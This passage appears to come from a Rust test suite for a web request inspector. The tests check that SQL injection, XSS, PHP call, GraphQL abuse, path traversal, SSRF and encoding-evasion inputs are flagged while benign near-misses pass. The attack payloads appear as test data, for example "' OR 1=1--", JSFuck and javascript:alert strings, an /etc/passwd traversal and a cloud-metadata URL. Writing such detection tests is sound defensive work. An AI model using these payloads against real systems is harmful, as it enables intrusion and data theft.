    assert_eq!(xml_values(&xml_pieces("<a b=\"open")), ["open"]);
    assert_eq!(xml_values(&xml_pieces("x<a")), ["x", "a"]);
}

#[test]
fn untyped_bodies_and_plus_in_paths_are_read_as_a_form_would_be() {
    let v = body(None, "UnIon+seleCt+password+from+users");
    assert!(v.is_attack(), "{v}");
    let v = at_path("/api/v1/items/24'union+all+select+1,2,3+from+aa");
    assert!(v.is_attack(), "{v}");
    // Near misses: ordinary text, a path with a plus in it.
    assert!(!body(None, "Hello+there, see you at 5").is_attack());
    let v = at_path("/api/v1/items/c++-primer");
    assert!(!v.is_attack(), "{v}");
}

#[test]
fn sql_fragments_are_known_by_their_syntax() {
    for attack in [
        "AND 6698=(",
        "' or 1='",
        "|| c == '",
        ") AND uid!=(",
        "1 in ( select * from users",
        "id=(select min(id) from t)",
        ") AS alias FROM",
        "SELECT/*avoid-spaces*/password/**/FROM/**/Members",
    ] {
        let v = query(&format!("q={}", enc(attack)));
        assert!(category(&v).contains(&"sqli"), "{attack}: {v}");
        assert!(v.is_attack(), "{attack}: {v}");
    }
    passes_as_query(&[
        "or else we go home",
        "And then = happened",
        "orderby=date",
        "order_id=ORD-2026-01-25",
        "Alice (left) as usual from 9 to 5",
        "Select the one you like",
        "/* a C comment */ int x;",
        "more or less = the same",
    ]);
}

#[test]
fn script_in_brackets_templates_and_css_is_caught() {
    for attack in [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
        "[].sort.call`${alert}1337`",
        "Reflect.apply.call`${navigation.navigate}${navigation}`",
        "style=-moz-binding:url(http://example.com/xss.xml#xss)",
        "x:url(javascript:alert(1))",
        "width: expression(alert(1))",
        "ja\tvascript:alert(1)",
        "<x:script>alert(1)</x:script>",
    ] {
        let v = query(&format!("q={}", enc(attack)));
        assert!(category(&v).contains(&"xss"), "{attack}: {v}");
    }
    passes_as_query(&[
        "I [really] (truly) like it!!",
        "a regular expression (regex) matches text",
        "call `make` in the repo",
        "background: url(/img/bg.png)",
        "time: 10:30",
    ]);
}

#[test]
fn php_calls_through_variables_and_spaced_extensions_are_caught() {
    for attack in [
        "$__[$_[1]](7)",
        "$_aB_4c[5]['d'] (17)",
        "[system][0](ls);",
        "$GLOBALS['cf908275'](14)",
    ] {
        let v = query(&format!("q={}", enc(attack)));
        assert!(v.is_attack(), "{attack}: {v}");
    }
    for ok in ["$a[]()", "${}()", "costs $5 [approx] (each)"] {
        let v = query(&format!("q={}", enc(ok)));
        assert!(!v.is_attack(), "{ok}: {v}");
    }
    let v = with_header("x-filename", "photo. php");
    assert!(v.is_attack(), "{v}");
    assert!(!with_header("x-filename", "photo.png").is_attack());
}

#[test]
fn base64_is_read_at_any_alignment() {
    // " invokertransformer" cut out of a longer encoding, two characters in.
    let d = base64ish("BpbnZva2VydHJhbnNmb3JtZXI");
    assert!(d.iter().any(|s| s.contains("nvokertransformer")), "{d:?}");
    // Random identifiers decode to nothing printable.
    assert!(base64ish("Zx81qP0LmN2vT7wK").is_empty());
    assert!(!query("id=Zx81qP0LmN2vT7wK9aQ").is_attack());
}

#[test]
fn protocol_evasions_in_urls_and_overrides_are_refused() {
    // Bytes that are not UTF-8, control characters in a path or cookie.
    assert!(query("q=%c0%af").is_attack());
    assert!(query("q=caf%E9").is_attack());
    assert!(at_path("/api/v1/items/a%01b").is_attack());
    assert!(with_header("cookie", "hi%13=bye").is_attack());
    // A method override to a method a form cannot send.
    assert!(query("_method=DELETE").is_attack());
    assert!(with_header("x-http-method-override", "PUT").is_attack());
    // Near misses: UTF-8 text, the overrides a form may send anyway, and
    // text pasted with terminal control codes in a query.
    assert!(!query("q=caf%C3%A9").is_attack());
    assert!(!query("_method=post").is_attack());
    assert!(!query("_method=X-DELETE").is_attack());
    assert!(!with_header("x-http-method-override", "GET").is_attack());
    assert!(!query("q=under%08%08lined").is_attack());
    assert!(!at_path("/api/v1/items/caf%C3%A9").is_attack());
}

#[test]
fn graphql_arguments_aliases_depth_and_batches_are_inspected() {
    let gql = |q: &str| json(&serde_json::json!({ "query": q }).to_string());
    // Injection in an argument.
    let v = gql(r#"{ user(name: "x' OR '1'='1") { id } }"#);
    assert!(category(&v).contains(&"sqli"), "{v}");
    let v = gql("query { search(text: \"\"\"<script>alert(1)</script>\"\"\") { id } }");
    assert!(v.is_attack(), "{v}");
    // One login tried under many names.
    let aliased: String = (0..40)
        .map(|i| format!("a{i}: login(user: \"admin\", password: \"p{i}\") {{ token }} "))
        .collect();
    let v = gql(&format!("mutation {{ {aliased} }}"));
    assert!(
        v.findings.iter().any(|f| f.rule == "graphql.aliasing"),
        "{v}"
    );
    // Deep nesting.
    let deep = "{ a ".repeat(20) + &"}".repeat(20);
    let v = gql(&deep);
    assert!(v.findings.iter().any(|f| f.rule == "graphql.depth"), "{v}");
    // A batch of many operations.
    let batch: Vec<_> = (0..20)
        .map(|i| serde_json::json!({ "query": format!("{{ item(id: {i}) {{ name }} }}") }))
        .collect();
    let v = json(&serde_json::Value::Array(batch).to_string());
    assert!(
        v.findings.iter().any(|f| f.rule == "graphql.batching"),
        "{v}"
    );
    // Near misses: an ordinary query with arguments, variables, a few
    // aliases and fragments; a small batch; prose under `query`.
    for ok in [
        "query Orders($first: Int = 10, $after: String) { me { name orders(first: $first, after: $after, filter: {status: OPEN}) { edges { node { id total small: image(size: 64) large: image(size: 512) } } } } }",
        "{ hero { name friends { name ... on Droid { primaryFunction } } } }",
        "fragment F on User { id name }",
        "where can I buy a blue mug?",
    ] {
        let v = gql(ok);
        assert!(!v.is_attack(), "{ok}: {v}");
    }
    let batch: Vec<_> = (0..3)
        .map(|i| serde_json::json!({ "query": format!("{{ item(id: {i}) {{ name }} }}") }))
        .collect();
    assert!(!json(&serde_json::Value::Array(batch).to_string()).is_attack());
    let s = graphql_shape("{ a: b(c: 1, d: {e: 2}) # x: y\n f: g }").unwrap();
    assert_eq!((s.aliases, s.depth), (2, 1));
}

#[test]
fn the_review_s_cases_hold() {
    // Non-ASCII text under `query` is a search, not a panic.
    for q in ["поиск", "検索", "fragmenté", "mutatioñ", "querý"] {
        let v = json(&serde_json::json!({ "query": q }).to_string());
        assert!(!v.is_attack(), "{q}: {v}");
        assert!(!query(&format!("query={}", enc(q))).is_attack());
    }
    // A payload inside an agent's comment is not an agent.
    for ua in [
        "Mozilla/5.0 (x' AND SLEEP(5)-- -)",
        "Mozilla/5.0 (../../../../etc/passwd)",
    ] {
        assert!(with_header("user-agent", ua).is_attack(), "{ua}");
    }
    // Only a password field skips inspection, by its exact name.
    assert!(query(&format!("passwords_list={}", enc("' OR 1=1--"))).is_attack());
    assert!(query(&format!(
        "password_reset_url={}",
        enc("http://169.254.169.254/latest")
    ))
    .is_attack());
    assert!(!query(&format!("user[password]={}", enc("' OR 1=1--"))).is_attack());
    // An encoded `_method` is still a method override.
    assert!(query("%5Fmethod=DELETE").is_attack());
    // XML text split by CDATA or comments is read joined, as a DOM does.
    let split = "<r><q>x'<![CDATA[]]> OR '1'='1</q></r>";
    assert!(body(Some("application/xml"), split).is_attack());
    assert_eq!(
        xml_text(&xml_pieces("<a>x<!-- c -->y<![CDATA[z]]></a><b>w</b>")),
        "\nxyz\n\nw\n"
    );
    // A document in an encoding inspection does not read is refused.
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend("<r>x</r>".encode_utf16().flat_map(|u| u.to_le_bytes()));
    let v = inspector().inspect(
        &Request {
            path: "/api/v1/upload",
            content_type: Some("application/xml"),
            body: Some(&utf16),
            ..Default::default()
        },
        false,
        true,
    );
    assert!(v.is_attack(), "{v}");
    assert!(body(
        Some("application/xml"),
        "<?xml version=\"1.0\" encoding=\"IBM037\"?><r/>"
    )
    .is_attack());
    assert!(!body(
        Some("application/xml; charset=utf-8"),
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><r>ok</r>"
    )
    .is_attack());
    // Routine XML: a GPX schemaLocation, Atom links in RSS, an XSLT template.
    for ok in [
        "<?xml version=\"1.0\"?><gpx xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/1/1/gpx.xsd\"><trk><name>Run</name></trk></gpx>",
        "<rss version=\"2.0\" xmlns:atom=\"http://www.w3.org/2005/Atom\"><channel><atom:link href=\"https://example.com/feed\" rel=\"self\"/><title>News</title></channel></rss>",
        "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><p>hi</p></xsl:template></xsl:stylesheet>",
    ] {
        let v = body(Some("application/xml"), ok);
        assert!(!v.is_attack(), "{ok}: {v}");
    }
    // Prose, smileys, separators and globs.
    passes_as_query(&[
        "And you!",
        "Or me!",
        "and more!",
        "And I <3 you",
        "спасибо))))))))))))))))))))))))))",
        "!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!",
        "++++++++++++++++++++++++++++++++",
        "charts/**/values.yaml",
        "src/**/table.tsx",
        "group/**/x",
        "if a < b: object",
    ]);
    // A Latin-1 cookie set by another site's script passes.
    assert!(!with_header("cookie", "pref=caf%E9").is_attack());
    assert!(with_header("cookie", "pref=a%01b").is_attack());
}
